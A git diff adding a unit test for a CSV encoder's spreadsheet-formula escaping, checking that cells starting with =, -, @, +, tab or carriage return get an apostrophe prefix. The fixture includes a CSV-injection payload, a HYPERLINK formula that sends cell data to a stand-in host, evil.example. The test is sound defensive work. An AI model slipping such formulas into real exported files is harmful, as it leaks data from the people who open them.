@@ -57,6 +57,17 @@ describe('encoders', () => {
     ]);
   });
 
+  it('csv: text a spreadsheet would run gets a leading apostrophe; numbers stay numbers; csvEscape false keeps it raw', () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const records = [{ customerName: formula, note: '-x', at: '@SUM(A1)', plus: '+1 555', tab: '\tx', cr: '\rx', amount: -5, decimal: '-12.50', ok: 'Acme' }];
+    const escaped = parse(text(createEncoder('csv', false).page(page(records)))) as string[][];
+    expect(escaped[1]).toEqual([`'${formula}`, "'-x", "'@SUM(A1)", "'+1 555", "'\tx", "'\rx", '-5', '-12.50', 'Acme', '']);
+    const raw = parse(text(createEncoder('csv', false, undefined, false).page(page(records)))) as string[][];
+    expect(raw[1]).toEqual([formula, '-x', '@SUM(A1)', '+1 555', '\tx', '\rx', '-5', '-12.50', 'Acme', '']);
+    const resumed = createEncoder('csv', false, createEncoder('csv', false).state(), false);
+    expect((parse(text(resumed.page(page(records)))) as string[][])[1]![0]).toBe(formula);
+  });
+
   it('csv with --all-companies: companyId first; no records → a header only', () => {
     const encoder = createEncoder('csv', true);
     expect(text(encoder.page(page(page1), undefined, 'co-1')).split('\n')[0]).toBe('companyId,id,name,ref.id,tags,_extra');
